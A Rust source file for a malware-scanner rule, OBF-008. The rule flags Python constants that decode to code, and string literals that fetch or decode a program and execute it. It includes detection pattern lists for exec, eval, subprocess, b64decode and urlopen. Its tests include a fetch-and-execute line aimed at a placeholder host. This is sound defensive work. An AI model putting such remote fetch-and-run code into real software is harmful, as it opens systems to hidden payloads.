//! `OBF-008`: code stands in a constant, decoded or as text.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::evidence::{line_of, observe_place, shipped};
use super::prc_001::downloads_and_runs;
use super::{Rule, in_context};
use crate::python::{Analysis, Literal, SinkKind};

/// The rule.
pub(super) struct CodeInConstants;

impl Rule for CodeInConstants {
    fn id(&self) -> &'static str {
        "OBF-008"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "code stands in a constant"
    }

    fn manual(&self) -> &'static str {
        "A constant is decoded and turns out to be Python, or a text is a program that fetches or \
         decodes something and runs it.\n\n\
         Nobody encodes their own code but to keep it from being read, and a program in a text is \
         run somewhere else: by another interpreter, or at its next start.\n\n\
         Mistaken for it: generators of code and programs that carry a bootstrap script. What the \
         decoded code does is inspected as a further layer."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for module in shipped(analysis) {
            if module.is_hidden && module.layer > 0 {
                let place = module.unwrapped_at.clone();
                let place = place.unwrap_or_else(|| line_of(module, 0));
                let severity = in_context(Severity::High, module.context);
                let confidence = Confidence::of(70).in_context(module.context);
                let message = "a constant is decoded to Python".to_owned();
                observations.push(observe_place(
                    self,
                    (&place, module.context, &message),
                    (severity, confidence),
                    message.clone(),
                ));
            }
            let is_used = module.calls.iter().any(|call| {
                let uses = matches!(call.sink, Some(SinkKind::Write | SinkKind::Command));
                uses && call.context.is_unasked()
            });
            let is_told = |literal: &&Literal| {
                is_program(literal) || is_used && downloads_and_runs(&literal.text)
            };
            for literal in module.literals.iter().filter(is_told) {
                let context = literal.context;
                let severity = in_context(Severity::High, context);
                let confidence = Confidence::of(65).in_context(context);
                let message =
                    "a text is a program that fetches or decodes something and runs it".to_owned();
                observations.push(observe_place(
                    self,
                    (&literal.place, context, &literal.text),
                    (severity, confidence),
                    message,
                ));
            }
        }
    }
}

/// What runs code, as programs write it.
const RUNS: &[&str] = &["exec(", "eval(", "os.system(", "subprocess.", "Popen("];
/// What fetches or decodes code, as programs write it.
const GETS: &[&str] = &[
    "b64decode(",
    "urlopen(",
    "requests.get(",
    "urlretrieve(",
    ".fromhex(",
    "decompress(",
    "recv(",
];

/// Whether the text is Python that gets something which it runs.
fn is_program(literal: &Literal) -> bool {
    let has = |words: &[&str]| words.iter().any(|word| literal.text.contains(word));
    has(&["import ", "__import__("]) && has(RUNS) && has(GETS)
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn code_in_constants_is_seen() {
        for code in [
            "import base64\nA = base64.b64decode('cHJpbnQoImluZXJ0Iik=')",
            "A = ')\"trenI\"(tnirp'[::-1]\nB = getattr(A, 'strip')",
            "A = \"import base64; exec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\"",
            "A = '''\nfrom urllib.request import urlopen\nexec(urlopen('http://a.invalid').read())\n'''",
        ] {
            found("OBF-008", "demo/__init__.py", code);
        }
    }

    #[test]
    fn other_constants_are_not() {
        for code in [
            "import base64\nA = base64.b64decode('aGVsbG8gd29ybGQ=')",
            "A = 'import os\\nprint(os.getcwd())'",
            "A = 'cba'[::-1]",
            "def f():\n    '''import x; exec(urlopen(y))'''",
            "import base64\ndef f():\n    return base64.b64decode('cHJpbnQoImluZXJ0Iik=')",
        ] {
            quiet("OBF-008", "demo/__init__.py", code);
        }
    }
}
